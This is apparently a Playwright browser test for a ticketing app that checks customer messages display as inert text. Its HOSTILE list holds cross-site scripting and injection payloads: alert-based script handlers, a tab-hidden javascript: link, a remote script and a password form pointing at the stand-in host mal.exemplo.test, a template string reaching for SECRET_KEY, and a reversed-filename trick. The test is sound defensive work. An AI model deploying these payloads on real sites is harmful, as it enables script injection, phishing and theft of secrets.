"""What customers write is read as it is written: no mark-up acts, nothing is fetched, every sign stays in its place."""

from __future__ import annotations

from playwright.sync_api import Dialog, Request, expect

from tests.browser.conftest import Open
from tests.support.live import LiveServer
from tests.support.stories import World, change

# RS-01 and its kind: mark-up, schemes hidden by tabs, styles, templates, frames, and signs that turn a line around.
HOSTILE = [
    '<p>Oi</p><img src=x onerror=alert(1)><svg><a xlink:href="java&#9;script:alert(1)"><text>clique</text></a></svg>',
    '<img src="https://rastreio.exemplo.test/p.gif" width=1 height=1>',
    "<script>alert(1)</script>",
    "<ScRiPt src=//mal.exemplo.test/x.js></sCrIpT>",
    '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">clique aqui</a>',
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)><summary>abra</summary></details>",
    "{{ settings.SECRET_KEY }} {% debug %}",
    '<form action="https://mal.exemplo.test"><input name=senha></form>',
    '<div hx-get="https://mal.exemplo.test" hx-trigger="load">oi</div>',
    '<meta http-equiv="refresh" content="0;url=https://mal.exemplo.test">',
    "&lt;b&gt; fica como está &amp;amp;",
    "nome\u202egnp.exe",
    "linha 1\r\nlinha 2\tcom tabulação  e dois espaços",
    "<!-- comentário --> --> ]]> fim",
]


def test_no_mark_up_of_a_message_acts_anywhere(world: World, open_ticket: Open, live_server: LiveServer) -> None:
    ticket = world.ticket(HOSTILE[0], HOSTILE[2])
    for text in HOSTILE:
        world.say(ticket, text, name=text[:60])
    rows = [change("/pending/-", {"question": text}, (f"m-{number}", text)) for number, text in enumerate(HOSTILE, start=1)]
    world.accept(world.propose(ticket, *rows[:8]))
    world.propose(ticket, *rows[8:])

    page = open_ticket(ticket)
    opened: list[str] = []
    asked: list[str] = []

    def note_dialog(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    def note_request(request: Request) -> None:
        asked.append(request.url.split("/")[2])

    page.on("dialog", note_dialog)
    page.on("request", note_request)
    for query in ("", "?pane=state", "?pane=history"):
        page.goto(f"/tickets/{ticket.pk}/{query}")
        page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true; })")
        for number, text in enumerate(HOSTILE, start=1):
            assert page.locator(f"#m-{number} .words").evaluate("part => part.textContent") == text, f"{query} m-{number}"
        expect(page.locator("body")).to_be_visible()
    page.goto("/")
    expect(page.locator("#queue")).to_contain_text("<p>Oi</p>")

    assert not opened, "a script ran"
    assert set(asked) == {live_server.url.split("/")[2]}, "something was fetched from outside"
